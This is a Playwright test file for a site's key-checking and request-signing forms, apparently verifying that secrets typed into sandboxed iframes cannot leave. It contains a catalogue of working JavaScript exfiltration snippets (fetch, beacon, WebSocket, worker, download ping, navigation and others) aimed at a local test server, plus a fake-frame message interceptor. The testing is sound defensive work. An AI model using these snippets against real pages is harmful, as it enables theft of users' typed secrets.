"""Nothing that is typed leaves the box it is typed into."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Error, Page, Route, expect

from overrides.build.forms import FORMS
from overrides.build.runtime import FOLDER, load_runtime
from tests.browser.conftest import CountingServer, serve
from tests.browser.form import Form

OpenForm = Callable[[str], Form]

MARK = "SampMark5ecretMark5ecret"
"""Typed as a secret; must be found nowhere but in its field."""


DOWNLOAD = (
    "(() => { const a = document.createElement('a'); a.href = url; a.download = 'x'; %s; "
    "document.body.append(a); a.click() })()"
)

LEAKS = {
    "fetch": "fetch(url).catch(() => 0)",
    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; "
    "x.open('GET', url); x.send() })",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = url })",
    "script": "new Promise(r => { const s = document.createElement('script'); "
    "s.onload = s.onerror = r; s.src = url; document.head.append(s) })",
    "style": "new Promise(r => { const s = document.createElement('link'); s.rel = 'stylesheet'; "
    "s.onload = s.onerror = r; s.href = url; document.head.append(s) })",
    "import": "import(url).catch(() => 0)",
    "websocket": "new Promise(r => { const w = new WebSocket(url.replace('http', 'ws')); "
    "w.onerror = w.onopen = r })",
    "eventsource": "new Promise(r => { const e = new EventSource(url); e.onerror = e.onopen = r })",
    "form": "(() => { const f = document.createElement('form'); f.action = url; f.method = 'post'; "
    "document.body.append(f); f.submit() })()",
    "popup": "window.open(url)",
    "frame": "new Promise(r => { const f = document.createElement('iframe'); f.src = url; "
    "f.onload = r; document.body.append(f) })",
    "blob worker": "new Promise(r => { "
    "const text = `fetch('${url}').finally(() => postMessage(0))`; "
    "const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = w.onerror = r })",
    # The last: a frame from which it is refused may be no form any more.
    "download": DOWNLOAD % "0",
}
"""Ways out for the frames that `tests/egress` does not go through; `url` carries the secret."""

MADE = "URL.createObjectURL(new Blob(['x']))"
SAVING_LEAKS = (
    *(DOWNLOAD % f"a.target = '{name}'" for name in ("_blank", "_top", "tutorial-engine")),
    DOWNLOAD % f"a.ping = url; a.href = {MADE}",
    "location = url",
)
"""More that a frame might have which may save a file; each is the last that it can try."""


def make_attempt(way: str) -> str:
    """Try a way; one that the browser leaves without an answer is not waited for."""
    patience = "new Promise((resolve) => setTimeout(resolve, 3000))"
    return (
        f"async (url) => {{ try {{ await Promise.race([{way}, {patience}]) }} catch {{ return }} }}"
    )


FIELDS = {"check-keys": ("api_key-1", "secret-1"), "sign-request": ("api_key", "secret")}
"""The forms that take a secret, and their fields for a key and its secret."""


@pytest.fixture(params=FIELDS)
def filled(request: pytest.FixtureRequest, open_form: OpenForm) -> Form:
    """A form with a marked secret typed and checked."""
    form = open_form(request.param)
    form.start()
    key, secret = FIELDS[form.name]
    form.field(secret).fill(MARK)
    form.field(key).fill("SampMarkKeySampMarkKeyS")
    form.check()
    return form


def test_no_request_leaves_while_keys_are_typed_and_checked(
    page: Page, site: CountingServer
) -> None:
    site.visit(page, "tools/check-keys/")
    form = Form(page, "check-keys")
    form.wait_until_shown()
    form.start()
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    site.requests.clear()
    form.field("api_key-1").press_sequentially(MARK)
    form.field("secret-1").press_sequentially(MARK)
    form.check()
    form.press("+ Add extra key")
    form.field("secret-2").fill(MARK)
    form.check()
    assert form.codes("secret-2")
    late = "/assets/images/favicon.svg"  # when to fetch it is the browser's own business
    assert [request for request in site.requests if late not in request] == []
    assert [url for url in seen if not url.startswith("blob:") and late not in url] == []


def test_no_request_leaves_while_a_request_is_signed_compared_and_copied(
    page: Page, site: CountingServer
) -> None:
    site.visit(page, "tools/sign-request/")
    form = Form(page, "sign-request")
    form.wait_until_shown()
    form.start()
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    site.requests.clear()
    form.field("secret").press_sequentially(MARK)
    form.field("api_key").fill(MARK[::-1])
    form.field("other").fill("0" * 64)
    form.check()
    form.open_all()
    form.press("Copy the signed text")
    expect(form.inside.locator(".copy-payload .copy-note")).to_have_text("Copied")
    late = "/assets/images/favicon.svg"  # when to fetch it is the browser's own business
    assert [request for request in site.requests if late not in request] == []
    assert [url for url in seen if not url.startswith("blob:") and late not in url] == []


def test_secret_is_in_nothing_that_the_form_shows_but_its_field(filled: Form) -> None:
    filled.open_all()
    shown = filled.frame.evaluate(
        "document.documentElement.outerHTML + document.documentElement.innerText"
    )
    assert MARK not in shown
    expect(filled.field(FIELDS[filled.name][1])).to_have_value(MARK)


def test_forms_may_write_to_the_clipboard_and_nothing_may_read_it(filled: Form) -> None:
    allowed = "(all) => all.map((frame) => [frame.name, frame.allow])"
    frames = filled.page.locator("iframe").evaluate_all(allowed)
    assert sorted(frames) == [["", "clipboard-write"], ["tutorial-engine", ""]]
    read = "navigator.clipboard.readText().catch((error) => error.name)"
    assert filled.frame.evaluate(read) == "NotAllowedError"


def test_keys_are_checked_without_a_network(open_form: OpenForm, context: BrowserContext) -> None:
    form = open_form("check-keys")
    form.start()
    context.set_offline(True)
    form.field("secret-1").fill(MARK)
    form.check()
    assert form.codes("api_key-1") == ["empty"]


@pytest.fixture
def unsealed(tmp_path: Path) -> Iterator[CountingServer]:
    """A page without any seal."""
    folder = tmp_path / "unsealed"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>No seal</title>")
    with serve(folder) as server:
        yield server


class Fence:
    """A request without the seal, after all that was tried within: what leaked came first."""

    def __init__(self, page: Page, unsealed: CountingServer, stranger: CountingServer) -> None:
        self.page = page.context.new_page()
        self.page.goto(unsealed.url)
        self.stranger = stranger

    def expect_no_leak(self) -> None:
        self.page.evaluate(make_attempt(LEAKS["fetch"]), f"{self.stranger.url}?fence")
        self.stranger.wait_for("fence")
        assert [request for request in self.stranger.requests if MARK in request] == []


@pytest.fixture
def fence(page: Page, unsealed: CountingServer, stranger: CountingServer) -> Fence:
    return Fence(page, unsealed, stranger)


def test_form_frame_that_saves_files_is_refused_every_way(
    open_form: OpenForm,
    page: Page,
    site: CountingServer,
    stranger: CountingServer,
    unsealed: CountingServer,
) -> None:
    (name,) = [name for name, form in FORMS.items() if form.saves]
    fence = Fence(page, unsealed, stranger)
    # A file of the site's own could carry something away as well: in its address.
    for server in (stranger, site):
        form = open_form(name)
        for way in LEAKS.values():
            form.frame.evaluate(make_attempt(way), f"{server.url}?leak={MARK}")
    for way in SAVING_LEAKS:
        form = open_form(name)
        form.frame.evaluate(f"(url) => {{ {way} }}", f"{stranger.url}?leak={MARK}")
    fence.expect_no_leak()
    assert [request for request in site.requests if MARK in request] == []


def test_form_that_may_not_save_is_refused_its_file(open_form: OpenForm, page: Page) -> None:
    form = open_form("check-keys")
    saved: list[str] = []
    page.on("download", lambda file: saved.append(file.url))
    save = f"(url) => {{ {DOWNLOAD % f'a.href = {MADE}'} }}"
    form.frame.evaluate(save, "")
    # The page's own file, after it: what the frame saved would have come first.
    with page.expect_download() as last:
        page.evaluate(save, "")
    assert saved == [last.value.url]


def test_only_a_form_without_a_secret_saves_files_or_has_settings(open_form: OpenForm) -> None:
    for name, declared in FORMS.items():
        form = open_form(name)
        sandbox = form.page.locator(f"{name} > iframe").get_attribute("sandbox")
        assert sandbox == ("allow-scripts allow-downloads" if declared.saves else "allow-scripts")
        if declared.saves or declared.settings:
            expect(form.inside.locator("[name^=secret], [name^=api_key]")).to_have_count(0)


def test_engine_frame_is_refused_every_way(
    filled: Form, stranger: CountingServer, fence: Fence
) -> None:
    engine = filled.page.frame("tutorial-engine")
    assert engine
    for way in LEAKS.values():
        engine.evaluate(make_attempt(way), f"{stranger.url}?leak={MARK}")
    fence.expect_no_leak()


@pytest.mark.parametrize("way", LEAKS)
def test_same_way_out_works_without_the_seal(
    way: str, page: Page, stranger: CountingServer, unsealed: CountingServer
) -> None:
    """The control: each way does reach the stranger where no seal is."""
    page.goto(unsealed.url)
    page.evaluate(make_attempt(LEAKS[way]), f"{stranger.url}?leak={MARK}")
    stranger.wait_for(MARK)


def test_frame_cannot_navigate_itself_away(filled: Form, stranger: CountingServer) -> None:
    """The page's policy refuses it, and the browser says so to the page."""
    filled.page.evaluate(
        """() => { window.refusal = new Promise((resolve) => document.addEventListener(
          'securitypolicyviolation', (event) => resolve(event.effectiveDirective))); }"""
    )
    filled.frame.evaluate(f"location = '{stranger.url}?leak={MARK}'")
    assert filled.page.evaluate("refusal") == "frame-src"
    assert stranger.requests == []


def test_frame_cannot_navigate_the_page(filled: Form, stranger: CountingServer) -> None:
    before = filled.page.url
    filled.frame.evaluate(f"try {{ top.location = '{stranger.url}?leak={MARK}' }} catch {{ 0 }}")
    filled.page.evaluate("fetch(location.href).then(() => 0)")
    assert filled.page.url == before
    assert stranger.requests == []


def test_frame_has_no_storage_and_no_origin(filled: Form) -> None:
    reach = "(name) => { try { return typeof window[name].length } catch (e) { return e.name } }"
    assert filled.frame.evaluate(reach, "localStorage") == "SecurityError"
    assert filled.frame.evaluate(reach, "sessionStorage") == "SecurityError"
    assert filled.frame.evaluate("self.origin") == "null"
    cookie = "() => { try { return document.cookie } catch (e) { return e.name } }"
    assert filled.frame.evaluate(cookie) == "SecurityError"


def test_no_call_can_be_begun_in_a_frame_nor_in_one_within(filled: Form) -> None:
    """No policy refuses WebRTC, so the frames do without it."""
    begin = """() => {
      const inner = document.body.appendChild(document.createElement('iframe'));
      const places = [() => globalThis, () => inner.contentWindow];
      return places.map((find) => {
        try { return String(find().RTCPeerConnection) } catch (e) { return e.name }
      });
    }"""
    engine = filled.page.frame("tutorial-engine")
    assert engine
    for frame in (filled.frame, engine):
        assert frame.evaluate(begin) == ["undefined", "SecurityError"]
    assert filled.page.evaluate("typeof RTCPeerConnection") == "function"


def test_page_cannot_see_into_the_frame(filled: Form) -> None:
    found = filled.page.evaluate(
        """() => {
          const frame = document.querySelector('.widget > iframe');
          const tries = [() => frame.contentDocument, () => frame.contentWindow.document,
            () => frame.contentWindow.location.href, () => frame.getSVGDocument(),
            () => frame.contentWindow.eval('1')];
          return tries.map((look) => { try { return look() } catch (e) { return e.name } });
        }"""
    )
    assert found == [None, "SecurityError", "SecurityError", None, "SecurityError"]


@pytest.mark.parametrize("name", FIELDS)
def test_page_hears_no_key_and_no_message_with_what_is_typed(
    name: str, open_form: OpenForm, page: Page
) -> None:
    page.add_init_script(
        """if (self === top) {
          window.heard = [];
          for (const kind of ['keydown', 'keyup', 'input', 'paste', 'focusin', 'message',
            'beforeinput', 'compositionend', 'selectionchange']) {
            window.addEventListener(kind, (event) => window.heard.push(
              kind + ':' + (event.key ?? JSON.stringify(event.data) ?? '')), true);
          }
          const post = MessagePort.prototype.postMessage;
          MessagePort.prototype.postMessage = function (...all) {
            window.heard.push('port:' + JSON.stringify(all)); return post.apply(this, all);
          };
        }"""
    )
    form = open_form(name)
    form.start()
    form.field(FIELDS[name][1]).press_sequentially(MARK)
    form.check()
    heard: list[str] = page.evaluate("heard")
    assert any(entry.startswith("message:") for entry in heard), "the listener did listen"
    assert not [entry for entry in heard if MARK in entry or "key" in entry.split(":")[0]]


def test_page_script_in_the_engines_place_gets_nothing(open_form: OpenForm, page: Page) -> None:
    """A page script plants a frame of the engine's name, of its own origin, and listens."""
    form = open_form("check-keys")
    plant_engine(page)
    form.field("secret-1").fill(MARK)
    page.evaluate("asked")
    form.press("Check")
    expect(form.inside.locator("form")).to_have_attribute("aria-busy", "true")
    caught: list[str] = page.evaluate("caught")
    assert not [entry for entry in caught if MARK in entry]


def plant_engine(page: Page) -> None:
    page.evaluate(
        """() => {
          window.caught = [];
          const fake = document.createElement('iframe');
          fake.name = 'tutorial-engine';
          document.body.prepend(fake);
          window.asked = new Promise((resolve) => { window.tell = resolve; });
          fake.contentWindow.addEventListener('message', (event) => {
            window.tell();
            window.caught.push(JSON.stringify(event.data));
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => window.caught.push(JSON.stringify(data));
            event.source.postMessage({ kind: 'connected' }, '*', [port2]);
          });
        }"""
    )


PLANT_SEALED = """() => new Promise((resolve, reject) => {
  window.caught = [];
  addEventListener('message', ({ data }) => window.caught.push(data));
  const fake = document.createElement('iframe');
  fake.name = 'tutorial-engine';
  fake.setAttribute('sandbox', 'allow-scripts');
  try {
    fake.srcdoc = "<script>parent.postMessage('runs', '*')</" + "script>";
  } catch (error) { reject(error) }
  fake.onload = () => setTimeout(resolve);
  document.body.prepend(fake);
})"""


def test_page_script_cannot_write_the_document_of_a_frame(open_form: OpenForm, page: Page) -> None:
    open_form("check-keys")
    with pytest.raises(Error, match="TrustedHTML"):
        page.evaluate(PLANT_SEALED)


def drop_trusted_types(route: Route) -> None:
    response = route.fetch()
    body = response.text()
    part = "; require-trusted-types-for 'script'; trusted-types default sealed-frame"
    assert part in body
    route.fulfill(response=response, body=body.replace(part, ""))


def test_page_script_in_a_sealed_frame_in_the_engines_place_does_not_run(
    open_form: OpenForm, page: Page
) -> None:
    """In a browser without trusted types too: its script is not one that the policy knows."""
    page.route("**/tools/check-keys/", drop_trusted_types)
    open_form("check-keys")
    page.evaluate(PLANT_SEALED)
    assert "runs" not in page.evaluate("caught")


def test_secret_is_nowhere_around_the_frame(filled: Form, page: Page) -> None:
    around = page.evaluate(
        """() => JSON.stringify([document.documentElement.outerHTML, location.href, document.title,
          window.name, document.cookie, {...localStorage}, {...sessionStorage}, history.state,
          performance.getEntries().map((entry) => entry.name)])"""
    )
    assert MARK not in around


@pytest.mark.parametrize("name", FORMS)
def test_form_is_locked_outside_of_a_sealed_frame(
    name: str, page: Page, site: CountingServer
) -> None:
    """The frame's document, opened as a page of the site, takes no input."""
    frame = load_runtime().manifest["frames"][name]
    source = page.request.get(f"{site.url}{FOLDER}{frame['address']}").text()
    address = site.url + "unsealed.html"
    page.route(address, lambda route: route.fulfill(body=source, content_type="text/html"))
    page.goto(address)
    expect(page.locator("button[name=check]")).to_be_disabled()


@pytest.mark.parametrize(
    "file",
    [
        *("unpacker.js.gzip", "unpacker.wasm.gzip", "worker.js.gzip", "pyodide.asm.wasm.brotli"),
        *("memory.snapshot.brotli", "pyodide-lock.json"),
    ],
)
def test_runtime_with_a_flipped_byte_is_refused_and_named(
    file: str, open_form: OpenForm, page: Page
) -> None:
    def flip(route: Any) -> None:
        body = bytearray(route.fetch().body())
        body[len(body) // 2] ^= 1
        route.fulfill(body=bytes(body))

    page.route(f"**/{file}", flip)
    form = open_form("check-keys")
    form.field("secret-1").fill(MARK)
    form.wait_until("failed")
    expect(form.status_line).to_contain_text(f"The file {file} is not the one")
    # Of what was whole a worker may have begun; it has ended. The other one is the site's search.
    while len(page.workers) > 1:
        page.evaluate("() => new Promise(requestAnimationFrame)")
    expect(form.field("secret-1")).to_have_value(MARK)


def test_frame_document_with_a_flipped_byte_is_not_shown(page: Page, site: CountingServer) -> None:
    page.route(
        "**/check-keys.frame",
        lambda route: route.fulfill(body=route.fetch().text().replace("Check", "Czeck")),
    )
    page.goto(f"{site.url}tools/check-keys/")
    expect(page.get_by_role("alert")).to_contain_text("not the one this page was built with")
    assert page.locator("check-keys > iframe").count() == 0
    page.unroute_all()
    page.get_by_role("button", name="Try again").click()
    Form(page, "check-keys").wait_until_shown()
